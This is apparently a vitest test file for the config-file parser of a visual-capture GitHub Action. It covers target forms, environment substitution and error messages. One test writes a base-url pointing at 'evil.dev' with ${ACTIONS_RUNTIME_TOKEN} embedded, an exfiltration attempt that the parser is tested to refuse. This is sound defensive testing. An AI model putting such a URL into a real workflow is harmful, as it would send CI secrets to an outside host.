import { describe, expect, it } from 'vitest';
import { renderProblems } from '../../src/errors/problem.ts';
import { type ConfigFile, parseConfigFile } from '../../src/inputs/config-file.ts';
import { fileVariables } from '../../src/inputs/file-variables.ts';

const file = 'visual-capture.yml';
const parse = (text: string, env: Record<string, string> = {}): ConfigFile =>
  parseConfigFile(text, file, fileVariables(env, new Map()));
const problemsOf = (text: string, env: Record<string, string> = {}): string[] =>
  renderProblems(parse(text, env).problems).split('\n').slice(1);

describe('parseConfigFile', () => {
  it('reads every form of target with the line it stands on', () => {
    const config = parse(
      'full-page: true\ntargets:\n  - /\n  # a comment\n  - url: /pricing\n    name: pricing\n    selector: "#plans"\n  - name: card\n    html: "<h1>Hello</h1>"\n  - {name: page, html-file: page.html}\n',
    );
    expect(config.problems).toEqual([]);
    expect(config.inputs.get('full-page')).toEqual({ raw: true, by: 'config-file', place: { kind: 'file', file, line: 1 } });
    expect(config.targets.map(({ page, place, name }) => [page, place.line, name?.raw])).toEqual([
      [{ kind: 'url', url: '/' }, 3, undefined],
      [{ kind: 'url', url: '/pricing' }, 5, 'pricing'],
      [{ kind: 'html', html: '<h1>Hello</h1>' }, 8, 'card'],
      [{ kind: 'html-file', path: 'page.html' }, 10, 'page'],
    ]);
    expect(config.targets[1]?.settings.get('selector')).toEqual({
      raw: '#plans',
      by: 'config-file',
      place: { kind: 'file', file, line: 7 },
    });
  });

  it('puts the environment in, after the YAML was understood', () => {
    const config = parse('base-url: ${PREVIEW}\napi-options: {a: "${N}"}\ntargets: ["/$${X}"]\n', {
      PREVIEW: 'https://x.dev: # not YAML',
      N: 'n',
    });
    expect(config.inputs.get('base-url')?.raw).toBe('https://x.dev: # not YAML');
    expect(config.inputs.get('api-options')?.raw).toEqual({ a: 'n' });
    expect(config.targets[0]?.page).toEqual({ kind: 'url', url: '/${X}' });
  });

  it('withholds what GitHub hands to the step, so that a config file cannot send it anywhere', () => {
    expect(problemsOf('base-url: https://evil.dev/${ACTIONS_RUNTIME_TOKEN}', { ACTIONS_RUNTIME_TOKEN: 'secret' })[0]).toContain(
      'visual-capture.yml:1: ${ACTIONS_RUNTIME_TOKEN} holds a secret of the run',
    );
  });

  it('tells all problems at once, each with its line and remedy', () => {
    const text = [
      'treshold: 0.1',
      'urls: /x',
      'api-key: sk_live_x',
      'base-url: ${MISSING}',
      'targets:',
      '  - url: /a',
      '    concurrency: 3',
      '    mask: []',
      '    slector: "#x"',
      '  - url: /b',
      '    html: <p>',
      '  - html: <p>',
      '  - 3',
      '  - ',
      '  - url: [x]',
    ].join('\n');
    expect(problemsOf(text)).toEqual([
      '  - visual-capture.yml:1: unknown key "treshold". Did you mean "threshold"?',
      '  - visual-capture.yml:2: urls is an input of the workflow or the command line, not of the config file',
      '  - visual-capture.yml:3: api-key must not stand in a file. Write api-key: ${NAME} and set NAME in the environment from a secret',
      '  - visual-capture.yml:4: ${MISSING} is not set in the environment. Set it with env: on the step, or write $${MISSING} for the text itself',
      '  - visual-capture.yml:7: concurrency holds for the whole run: move it to the top of the file',
      '  - visual-capture.yml:9: unknown key "slector". Did you mean "selector"?',
      '  - visual-capture.yml:10: a target needs exactly one of url, html and html-file, not url and html',
      '  - visual-capture.yml:12: a target with html or html-file needs a name',
      '  - visual-capture.yml:13: a target must be a path, a URL or a mapping with url, html or html-file, not 3',
      '  - visual-capture.yml:14: a target must be a path, a URL or a mapping with url, html or html-file, not null',
      '  - visual-capture.yml:15: url must be text, not ["x"]',
    ]);
  });

  it.each([
    ['foo: 1', 'unknown key "foo". Nearest: '],
    ['name: x', 'name belongs to a target: put it into one of the list "targets"'],
    ['targets: [{url: /, targets: []}]', 'targets stands at the top of the file, not in a target'],
    ['targets: [{url: /, foo: 1}]', 'unknown key "foo". Nearest: '],
    ['a: &a {threshold: 1}\n<<: *a', 'unknown key "a"'],
    ['targets: [{url: /, <<: {threshold: 1}}]', 'YAML merge keys (<<) are not supported. Write the settings out'],
    ['base-url: ${GITHUB_TOKEN}', '${GITHUB_TOKEN} holds a secret of the run, which is kept from the config file'],
    ['a: 1\n---\nb: 2\n', 'holds more than one YAML document. Keep one, without a line of --- between'],
    ['targets: ["/red shoes"]', '"/red shoes" holds a blank. Write it as %20'],
    ['targets: ["pricing ="]', '"pricing =" must be a URL or a path, or name = URL or path'],
    ['targets: [a', 'is not valid YAML'],
    ['- a list', 'must be a mapping'],
    ['targets: /x', 'targets must be a list'],
    ['full-page: true\nfull-page: false\n', 'is not valid YAML'],
  ])('refuses %j', (text, expected) => {
    expect(problemsOf(text)[0]).toContain(expected);
  });

  it('lists no more keys than can be read', () => {
    expect(problemsOf('foo: 1')[0]?.replace(/https:\S+/, '').length).toBeLessThan(120);
  });

  it('takes name = URL in the short form, as the input urls does', () => {
    const { targets, problems } = parse('targets:\n  - pricing = /p?a=b\n  - /p?a=b\n');
    expect(problems).toEqual([]);
    const place = { kind: 'file', file, line: 2 };
    expect(targets[0]).toEqual({
      place,
      by: 'config-file',
      page: { kind: 'url', url: '/p?a=b' },
      name: { raw: 'pricing', place, by: 'config-file' },
      settings: new Map(),
    });
    expect(targets[1]?.name).toBeUndefined();
  });

  it('leaves an unquoted viewport that begins with 0x as it is written', () => {
    expect(parse('viewports: [0x100]').inputs.get('viewports')?.raw).toEqual(['0x100']);
  });

  it('takes an empty file as one that says nothing', () => {
    expect(parse('# nothing\n')).toEqual({ inputs: new Map(), targets: [], problems: [] });
  });
});
